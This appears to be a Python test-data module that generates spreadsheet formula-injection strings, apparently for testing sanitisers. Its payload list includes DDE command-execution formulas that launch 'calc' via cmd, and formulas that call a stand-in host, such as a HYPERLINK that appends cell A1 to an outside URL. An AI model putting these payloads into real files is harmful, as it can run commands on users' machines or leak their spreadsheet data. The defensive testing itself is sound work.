"""Texts that a spreadsheet would calculate, and those that it may take for such: made by rules."""

from collections.abc import Iterator
from itertools import product

SIGNS = ("=", "+", "-", "@")
WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66", "\u207a", "\ufe62")
"""The same signs as other scripts write them."""
BEFORE = (
    " ", "\t", "\r", "\n", "\r\n", "\v", "\f", "\0", "\u00a0", "\u3000", "\u200b", "\ufeff",
    "\u2028", "\u202e", "\u00ad", "'", '"', "\"'", ",", ";", "|", '",', '";', "x;", "x\t", "x\n",
    "x\r\n", '"\n', "`", "{", "(", "$", "\\", "'=", "''",
)  # fmt: skip
"""What a program may drop, or end a cell at, before it looks for a sign."""
CALLS = (
    "1+1", "SUM(1,1)", "A1", "$B$2:C3", "R[-1]C", "cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\x'!A0",
    "HYPERLINK(\"http://x.invalid/\"&A1,\"x\")", "WEBSERVICE(\"http://x.invalid/\")",
    "IMPORTXML(\"http://x.invalid\",\"//a\")", "IMPORTDATA(\"http://x.invalid\")",
    "IMAGE(\"http://x.invalid\")", "IMPORTRANGE(\"x\",\"A1\")", "INDIRECT(\"A\"&1)",
    "CALL(\"x\",\"y\",1)", "REGISTER.ID(\"x\",\"y\")", "EXEC(\"calc\")", "FORMULA(1)",
    "FILTERXML(\"<a/>\",\"//a\")", "RTD(\"x\",,\"y\")", "'file:///x'#$A.A1", "LAMBDA(x,x)(1)",
    "1E9", "1/0", "TRUE", "\"x\"", "{1;2}", "#REF!", "x", "",
)  # fmt: skip


def make_formulas() -> list[str]:
    """Return all texts, each once."""
    return [*dict.fromkeys(_forms())]


def _forms() -> Iterator[str]:
    yield from (sign + call for sign, call in product(SIGNS, CALLS))
    yield from (before + "=1+1" for before in BEFORE)
    yield from (before + sign + "SUM(1,1)" for before, sign in product(BEFORE[:5], SIGNS[1:]))
    yield from (sign + "1+1" for sign in WIDE)
    yield from (first + second + "1" for first, second in product(SIGNS, SIGNS))
    yield from ("%0A=1+1", "&#61;1+1", "\\x3d1+1", "{=1+1}", "sep=;", "ID", "=" * 300, "-" * 40)
